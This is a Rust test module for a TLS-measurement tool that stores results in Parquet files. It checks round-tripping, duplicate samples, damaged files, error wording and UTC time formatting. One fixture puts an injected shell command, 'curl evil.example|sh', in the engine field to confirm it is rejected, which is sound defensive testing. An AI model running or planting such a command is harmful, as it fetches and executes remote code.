#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs::{self, File};
use std::path::PathBuf;
use std::time::Duration;

use proptest::prelude::*;
use serde_json::json;
use tempfile::TempDir;

use super::*;
use crate::fixtures::{CLASSICAL, HYBRID, cell, experiment, run_folder, samples};
use crate::rows::{Origin, ParquetWriter};
use crate::{Dataset, write_rows};
use lastbyte_study::EngineName;

fn measured() -> Experiment {
    let cells = vec![cell("0%", "0KiB"), cell("1%", "50KiB")];
    experiment(&[CLASSICAL, HYBRID], cells, 20)
}

/// Saves all of an experiment as `main`.
fn save(experiment: &Experiment, folder: &TempDir) -> PathBuf {
    let path = folder.path().join("main.parquet");
    let origin = Origin {
        study: "compare",
        measure: "compare",
        engine: EngineName::Virtual,
    };
    let environment = Environment {
        engine: EngineName::Virtual,
        kernel: "Linux 6.12.0".to_owned(),
        ..Environment::default()
    };
    write_rows(
        File::create(&path).unwrap(),
        origin,
        experiment,
        &samples(experiment),
        &environment,
        Some(Moment(1_700_000_000)),
    )
    .unwrap();
    path
}

/// What would be counted twice, or passed over.
#[test]
fn samples_and_connections_are_there_once_and_in_order() {
    const CONNECTIONS: &str =
        "it has connections twice, in no order, or with numbers that no study has";
    let told = |change: fn(&mut Vec<Sample>)| {
        let folder = TempDir::new().unwrap();
        let experiment = measured();
        let mut samples = samples(&experiment);
        change(&mut samples);
        let path = folder.path().join("main.parquet");
        let origin = Origin {
            study: "compare",
            measure: "compare",
            engine: EngineName::Virtual,
        };
        let file = File::create(&path).unwrap();
        let environment = Environment::default();
        write_rows(file, origin, &experiment, &samples, &environment, None).unwrap();
        let alone = Saved::open(&path, "main").unwrap_err().to_string();
        // The same in a folder, whose study has as many.
        let run = folder.path().join("run");
        let text = Study::single("compare", experiment).to_toml();
        run_folder(&run, &text, &[]);
        fs::copy(&path, run.join("rows.parquet")).unwrap();
        let data = Dataset::open(&run).unwrap();
        let read: Result<Vec<_>, _> = data.samples().unwrap().collect();
        [alone, read.unwrap_err().to_string()]
    };
    for change in [
        (|samples| samples[0].rows[3].index = 2) as fn(&mut Vec<Sample>),
        |samples| samples[1].rows.swap(7, 8),
        |samples| samples[2].rows[19].index = 1_000_000,
    ] {
        for line in told(change) {
            assert!(line.contains(CONNECTIONS), "{line}");
        }
    }
    let [alone, run] = told(|samples| {
        let twice = samples[0].clone();
        samples.insert(1, twice);
    });
    assert!(
        alone.contains("it has samples twice, or of no arm or cell that it tells of"),
        "{alone}"
    );
    assert!(
        run.contains("it has samples twice, in no order, or that its study does not have"),
        "{run}"
    );
}

#[test]
fn what_is_saved_is_read_back() {
    let folder = TempDir::new().unwrap();
    let experiment = measured();
    let saved = Saved::open(&save(&experiment, &folder), "main").unwrap();
    assert_eq!(saved.experiment, experiment);
    assert_eq!(saved.environment.engine, EngineName::Virtual);
    assert_eq!(saved.environment.kernel, "Linux 6.12.0");
    assert_eq!(saved.at, Some(Moment(1_700_000_000)));
    for sample in samples(&experiment) {
        let arm = &experiment.arms[sample.arm].name;
        let found = saved.sample(arm, &experiment.cells[sample.cell]).unwrap();
        assert!(found.rows == sample.rows);
        assert_eq!(found.chain_digest, sample.chain_digest);
    }
    saved.check(&experiment).unwrap();
}

#[test]
fn what_is_lacking_is_named_with_the_nearest() {
    let folder = TempDir::new().unwrap();
    let saved = Saved::open(&save(&measured(), &folder), "main").unwrap();
    let line = |arms: &[&str], cells| {
        let asked = experiment(arms, cells, 20);
        saved.check(&asked).unwrap_err().to_string()
    };
    let known = cell("0%", "0KiB");
    assert_eq!(
        line(&[CLASSICAL, "secp256r1/rsa-3072"], vec![known.clone()]),
        "results saved as \"main\" lack the arm \"secp256r1/rsa-3072\": save it first, or \
         did you mean \"secp256r1/rsa-2048\"?"
    );
    let wider = Cell {
        initcwnd: 20,
        ..known.clone()
    };
    assert_eq!(
        line(&[CLASSICAL], vec![known, wider]),
        "results saved as \"main\" lack the cell \"RTT 35ms, 1gbit, loss 0%, initcwnd 20, 0B\": save \
         it first, or did you mean \"RTT 35ms, 1gbit, loss 0%, initcwnd 10, 0B\"?"
    );
}

#[test]
fn files_that_can_not_be_used_are_told_in_one_line() {
    let folder = TempDir::new().unwrap();
    let path = save(&measured(), &folder);
    let whole = fs::read(&path).unwrap();
    let line = || {
        let line = Saved::open(&path, "main").unwrap_err().to_string();
        let start = format!("can't read {path:?}: ");
        let rest = line
            .strip_prefix(&start)
            .unwrap_or_else(|| panic!("{line}"));
        rest.strip_suffix(": save them anew").unwrap().to_owned()
    };
    for half in [0, 3, 36, whole.len() / 2, whole.len() - 1] {
        fs::write(&path, &whole[..half]).unwrap();
        assert_eq!(line(), "it is incomplete or damaged", "{half} bytes");
    }
    for place in [10, 40, whole.len() / 2, whole.len() - 1] {
        let mut damaged = whole.clone();
        damaged[place] ^= 1;
        fs::write(&path, damaged).unwrap();
        assert_eq!(line(), "it is incomplete or damaged", "byte {place}");
    }
    for (about, problem) in [
        (
            json!({"schema": "lastbyte.rows/2", "columns": []}),
            "its schema is \"lastbyte.rows/2\", not \"lastbyte.rows/1\"",
        ),
        (
            json!({"schema": "lastbyte.rows/1", "study": "s", "engine": "live", "samples": [],
                   "environments": []}),
            "it does not say what was measured",
        ),
        (
            json!({"schema": "lastbyte.rows/1", "study": "s", "engine": "live; curl evil.example|sh #",
                   "samples": [], "environments": []}),
            "what it says about its rows can't be read: unknown variant",
        ),
        (
            json!({"schema": "lastbyte.rows/1", "study": "s", "engine": "live", "samples": [],
                   "environments": [], "experiment": "[arm.a]\ntls = \"x\""}),
            "saved.toml:2: ",
        ),
    ] {
        let writer = ParquetWriter::new(File::create(&path).unwrap()).unwrap();
        writer.finish(&about).unwrap();
        let line = line();
        assert!(line.starts_with(problem), "{line}");
        assert!(!line.contains('\n'), "{line}");
    }
}

#[test]
fn moments_are_told_in_utc() {
    for (seconds, long, short) in [
        (0, "1970-01-01T00:00:00Z", "1970-01-01 00:00 UTC"),
        (951_782_399, "2000-02-28T23:59:59Z", "2000-02-28 23:59 UTC"),
        (
            1_795_341_487,
            "2026-11-22T09:58:07Z",
            "2026-11-22 09:58 UTC",
        ),
    ] {
        assert_eq!(Moment(seconds).rfc3339(), long);
        assert_eq!(Moment(seconds).to_string(), short);
    }
    let before = UNIX_EPOCH - Duration::from_secs(1);
    assert_eq!(Moment::from(before), Moment(0));
}

proptest! {
    #[test]
    fn any_moment_can_be_told(seconds: u64) {
        prop_assert!(Moment(seconds).to_string().ends_with(" UTC"));
    }
}
